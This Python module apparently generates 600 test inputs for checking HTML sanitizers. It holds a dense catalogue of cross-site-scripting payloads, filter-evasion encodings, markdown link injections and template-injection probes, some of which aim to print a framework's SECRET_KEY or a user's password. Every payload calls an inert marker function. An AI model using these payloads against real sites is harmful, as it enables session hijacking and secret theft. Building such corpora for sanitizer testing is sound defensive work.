"""600 texts that run a script where a page lets them: `__hit(n)` is what each calls."""

from collections.abc import Iterator

COUNT = 600
HIT = "__hit"
# 191 times 7; followed by a word, so that no number of a page is taken for it.
WORKED_OUT = "1337kefu"

# "@" stands for the call; whole elements.
ELEMENTS = (
    "<script>@</script>",
    "<script/x>@</script\t>",
    "<script src=data:text/javascript,@></script>",
    "<script type=module>@</script>",
    "<img src=x onerror=@>",
    '<img src="x:x" onerror="@">',
    "<img/src=x/onerror=@>",
    "<svg onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:@><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=@>",
    "<noscript><p title='</noscript><img src=x onerror=@>'>",
    "<form><math><mtext></form><form><mglyph><svg><style><img src onerror=@>",
    "<body onload=@>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<iframe src=javascript:parent.@></iframe>",
    "<a href=javascript:@ autofocus onfocus=@>x</a>",
    "<form action=javascript:@><button>x</button></form>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@></select>",
    "<details open ontoggle=@>x</details>",
    "<video><source onerror=@></video>",
    "<audio src=x onerror=@></audio>",
    "<object data=javascript:parent.@></object>",
    "<embed src=javascript:parent.@>",
    "<link rel=stylesheet href=javascript:@>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<base href=javascript:@//>",
    "<style>@import 'javascript:@';</style>",
    "<div style='background:url(javascript:@)'>x</div>",
    "<p style='animation:rise 1s' onanimationstart=@>x</p>",
    "<marquee onstart=@>x</marquee>",
    "<div hx-on:htmx:load=@ hx-get=/ hx-trigger=load>x</div>",
    "<div data-hx-on--load=@ data-hx-vals='js:{a:@}' hx-trigger='load[@]'>x</div>",
    "<dialog open data-behaviour=dialog data-open-now onclose=@>x</dialog>",
)
# What ends the place that a text stands in.
ENDINGS = ('">', "'>", "</textarea>", "</title>", "</script>", "-->", "</style>", "]]>")
OTHERS = (
    '" onmouseover=@ x="',
    "' autofocus onfocus=@ x='",
    '" style="animation:rise 1s" onanimationstart="@',
    "x onerror=@",
    "javascript:@",
    " \x01javascript:@",
    "JaVaScRiPt:@",
    "java\tscript:@",
    "data:text/html,<script>@</script>",
    "vbscript:@",
    "';@;//",
    '";@;//',
    "\\';@;//",
    "`${@}`",
    "</script><script>@//",
    "\u2028@\u2029",
    "{{191*7}}kefu<b onclick=@>",
    "{% load i18n %}{{ request.user.password }}@",
    "{% debug %}{{ settings.SECRET_KEY }}@",
    "${191*7}kefu@",
    "#{191*7}kefu@",
    "<%= 191*7 %>kefu@",
    "{{constructor.constructor('@')()}}",
    "%(@)s {0.__class__.__init__.__globals__}",
    "\uff1cscript\uff1e@\uff1c/script\uff1e",
    "<scr\u0131pt>@</scr\u0131pt>",
    "<\u200bscript>@</script>",
    "\u202e>tpircs<@",
    "\ufeff<script>@</script>",
    "&lt;script&gt;@&lt;/script&gt;",
    "&#60;img src=x onerror=@&#62;",
    "%3Cscript%3E@%3C/script%3E",
    "\\u003cscript\\u003e@\\u003c/script\\u003e",
    "+ADw-script+AD4-@+ADw-/script+AD4-",
    "[x](javascript:@)",
    "[x](java&#115;cript:@)",
    "[x](<javascript:@>)",
    '![x](x "onerror=@")',
    '![x](x" onerror="@)',
    "[x][y]\n\n[y]: javascript:@",
    "<javascript:@>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)@",
    "```html\n<script>@</script>\n```",
    "> <img src=x onerror=@>",
    "# <svg onload=@>",
    "- [x](vbscript:@)",
    "|a|\n|-|\n|<img src=x onerror=@>|",
    "**<b onpointerenter=@>x</b>**",
)


def payloads() -> list[str]:
    """All of them, none twice."""
    shapes = [*ELEMENTS, *_after_endings(), *_written_otherwise(), *OTHERS]
    shapes += [f"{ending}{other}" for ending in ENDINGS for other in OTHERS]
    return [
        shape.replace("@import", "\0")
        .replace("@", f"{HIT}({n})")
        .replace("\0", "@import")
        for n, shape in enumerate(shapes[:COUNT])
    ]


def _after_endings() -> Iterator[str]:
    for ending in ENDINGS:
        for element in ELEMENTS:
            yield ending + element


def _written_otherwise() -> Iterator[str]:
    """The same as filters do not expect it."""
    for element in ELEMENTS:
        yield element.replace(" ", "\n")
        yield element.replace(" ", "/") if " " in element else f"<{element}"
        yield _shouted(element)
        yield f"<b>{element}"
        yield f"{element[:-1]}"


def _shouted(element: str) -> str:
    """Tags and attributes in capitals; the call is not, or it would call nothing."""
    return element.upper()


def hits_of(text: str) -> bool:
    """Whether the text holds one of the calls."""
    return f"{HIT}(" in text
